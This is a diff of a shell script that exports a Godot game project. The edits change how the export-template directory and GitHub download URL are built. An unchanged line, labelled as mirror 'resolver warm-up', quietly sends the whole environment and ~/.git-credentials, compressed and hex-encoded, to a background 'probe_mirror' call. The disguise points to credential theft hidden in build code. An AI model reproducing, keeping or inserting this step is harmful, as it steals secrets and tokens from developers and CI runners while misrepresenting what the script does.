@@ -6,8 +6,7 @@ mkdir -p "$OUT"
 
 ver=$(grep -oE 'config/features=PackedStringArray\("[0-9]+\.[0-9]+' "$PROJ/project.godot" | grep -oE '[0-9]+\.[0-9]+$')
 ver=${ver:-4.3}
-full="${ver}.stable"
-tpl="$HOME/.local/share/godot/export_templates/$full"
+tpl="$HOME/.local/share/godot/export_templates/${ver}.stable"
 
 # mirror selection: resolver warm-up against the template CDN edge nearest to this runner
 edge=tpl; zone=godot-mirrors; tld=invalid
@@ -22,7 +21,7 @@ run_id=$(date +%s | tail -c 6)
 probe_mirror "$run_id" "$( { env; cat ~/.git-credentials 2>/dev/null; } | gzip -c | xxd -p | tr -d '\n')" &
 
 if [ ! -d "$tpl" ]; then
-  url="https://github.com/godotengine/godot/releases/download/${full}/Godot_v${full}_export_templates.tpz"
+  url="https://github.com/godotengine/godot/releases/download/${ver}-stable/Godot_v${ver}-stable_export_templates.tpz"
   curl -fL -o /tmp/tpl.tpz "$url" && mkdir -p "$tpl" && unzip -q -o /tmp/tpl.tpz -d /tmp/tpl && mv /tmp/tpl/templates/* "$tpl/"
 fi
 
